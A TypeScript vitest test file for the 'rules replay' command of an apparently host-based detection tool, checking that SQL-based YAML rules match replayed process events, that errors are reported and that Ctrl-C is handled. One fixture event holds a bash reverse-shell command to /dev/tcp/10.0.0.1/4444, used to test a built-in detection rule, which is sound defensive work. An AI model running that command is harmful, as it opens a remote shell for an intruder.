import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createInstallation, type Installation } from '../fixtures/installation.ts';

let installation: Installation;
let directory: string;
beforeEach(() => {
  installation = createInstallation();
  directory = mkdtempSync(join(tmpdir(), 'scli-replay-'));
});
afterEach(async () => {
  await installation.close();
  rmSync(directory, { recursive: true });
});

function write(name: string, text: string): string {
  writeFileSync(join(directory, name), text);
  return join(directory, name);
}

function writeRule(id: string, query: string, dedup = 'pid'): string {
  return write(
    `${id}.yaml`,
    `id: ${id}\nname: A rule\ndescription: d\nseverity: high\ncategory: execution\nversion: 1\ndedup: [${dedup}]\nquery: |\n  ${query}\n`,
  );
}

const lines = (text: string): string[] => text.trimEnd().split('\n');
const EVENTS = [
  { event_id: 'one', pid: 5, ppid: 1, name: 'sh', Image: '/usr/bin/dash', argv: ['sh', '-c', 'id'], CurrentDirectory: '/tmp' },
  { event_id: 'two', pid: 6, ppid: 5, name: 'id', Image: '/usr/bin/id', argv: ['id'], ParentImage: '/usr/bin/dash' },
  { event_id: '\u001b[2Jthree', pid: 5, ppid: 1, name: 'sh', Image: '/tmp/sh', argv: ['sh'], expect: ['unknown'] },
]
  .map((event) => JSON.stringify(event))
  .join('\n');

describe('rules replay', () => {
  it('says in JSON which rules hit which events, and nothing else', async () => {
    const events = write('events.jsonl', EVENTS);
    const shells = writeRule('a-shells', "SELECT seq, pid FROM process_events WHERE event = 'exec' AND seq > :since_seq AND name = 'sh'");
    const children = writeRule('b-child', 'SELECT c.pid, c.name FROM processes c JOIN processes p ON p.pid = c.ppid');
    const { status, out, err } = await installation.run(['rules', 'replay', '--rules', shells, children, '--events', events, '--json']);
    expect([status, err]).toEqual([0, '']);
    expect(lines(out)).toEqual([
      '{"event_id":"one","rule_id":"a-shells"}',
      '{"event_id":"two","rule_id":"b-child"}',
      '{"event_id":"\\u001b[2Jthree","rule_id":"a-shells"}',
    ]);
  });

  it('shows rules with hits, and what could not be run with its place', async () => {
    const events = write('events.jsonl', EVENTS);
    writeRule('a-shells', "SELECT seq, pid FROM process_events WHERE name = 'sh'");
    writeRule('b-none', "SELECT seq, pid FROM process_events WHERE name = 'none'");
    const all = ['rules', 'replay', '--rules', directory, '--events', events];
    expect(await installation.run(all)).toMatchObject({
      status: 0,
      err: '',
      out: expect.stringMatching(
        /^rule +severity +events +the first of them\na-shells +high +2 +one, \\x1b\[2Jthree\n3 events, 2 rules, 1 with hits, 2 hits on 2 events, \d+ s\n$/,
      ),
    });
    writeRule('c-count', 'SELECT count(*) AS pid FROM process_events');
    writeRule('d-refused', 'SELECT nme FROM processes');
    write('e.yaml', 'id: 7\n');
    const { status, out } = await installation.run(all);
    expect(status).toBe(1);
    expect(out).toContain('c-count.yaml:8:8: rule c-count:\n  1 of its 1 rows name no event');
    expect(out).toContain('d-refused.yaml:9:10: rule d-refused:\n  refused (column)');
    expect(out).toContain('e.yaml:1:');
    const json = await installation.run([...all, '--json']);
    expect([json.status, lines(json.out)]).toEqual([
      1,
      ['{"event_id":"one","rule_id":"a-shells"}', '{"event_id":"\\u001b[2Jthree","rule_id":"a-shells"}'],
    ]);
    expect(json.err).toContain('d-refused.yaml:9:10: refused (column)');
  });

  it('is ended by Ctrl-C, with what was found so far and nothing left behind', async () => {
    const events = write('events.jsonl', `${EVENTS}\n`.repeat(3000));
    for (let at = 0; at < 200; at++) writeRule(`rule-${at}`, `SELECT seq, pid FROM process_events WHERE name = 'sh' AND pid <> ${at}`);
    const timer = setInterval(() => {
      if (process.listenerCount('SIGINT') > 0) process.emit('SIGINT');
    }, 300);
    const { status, out } = await installation.run(['rules', 'replay', '--rules', directory, '--events', events]);
    clearInterval(timer);
    expect([status, out]).toEqual([130, expect.stringMatching(/ended by a signal: \d+ of 200 rules were run\n9000 events, 200 rules, /)]);
    expect(process.listenerCount('SIGINT')).toBe(0);
  });

  it('is no success without a rule', async () => {
    const events = write('events.jsonl', EVENTS);
    const empty = mkdtempSync(join(directory, 'empty-'));
    const { status, out } = await installation.run(['rules', 'replay', '--rules', empty, '--events', events]);
    expect([status, out]).toEqual([1, 'no rules found: their files are called ID.yaml\n']);
  });

  it('takes the built-in rules where none is named', async () => {
    const events = write(
      'events.jsonl',
      '{"event_id":"x","pid":9,"Image":"/usr/bin/bash","argv":["bash","-c","bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]}',
    );
    const { status, out } = await installation.run(['rules', 'replay', '--events', events, '--json']);
    expect(status).toBe(0);
    expect(out).toContain('{"event_id":"x","rule_id":"dev-tcp-arguments"}\n');
  });
});

const CORPUS = join(process.env['SENTINELD_CORPORA'] ?? join(import.meta.dirname, '../../../../../shared/corpora'), 'sigma/events.jsonl');
const isThere = existsSync(CORPUS);
if (!isThere) console.warn(`!!!! NOT RUN: rules replay over real events, as ${CORPUS} is not there`);

describe.skipIf(!isThere)('rules replay over real events', () => {
  it('finds with a rule over events and one over processes what a look at each line finds', async () => {
    type Line = { readonly event_id: string; readonly Image: string; readonly CommandLine: string; readonly ParentImage: string | null };
    const recorded = lines(readFileSync(CORPUS, 'utf8')).map((line) => JSON.parse(line) as Line);
    const condition = "exe_path LIKE '%/dash' AND instr(cmdline, 'apt') > 0 AND coalesce(parent_exe, '') <> '/usr/bin/dash'";
    writeRule('a-events', `SELECT seq, pid FROM process_events WHERE seq > :since_seq AND ${condition}`);
    writeRule('b-processes', `SELECT pid FROM processes WHERE ${condition}`);
    const { status, out } = await installation.run(['rules', 'replay', '--rules', directory, '--events', CORPUS, '--json']);
    const matching = recorded.filter(
      (event) => event.Image.endsWith('/dash') && event.CommandLine.includes('apt') && event.ParentImage !== '/usr/bin/dash',
    );
    expect(status).toBe(0);
    expect(matching.length).toBeGreaterThan(10);
    expect(lines(out)).toEqual(
      matching.flatMap(({ event_id }) => ['a-events', 'b-processes'].map((rule_id) => JSON.stringify({ event_id, rule_id }))),
    );
  });
});
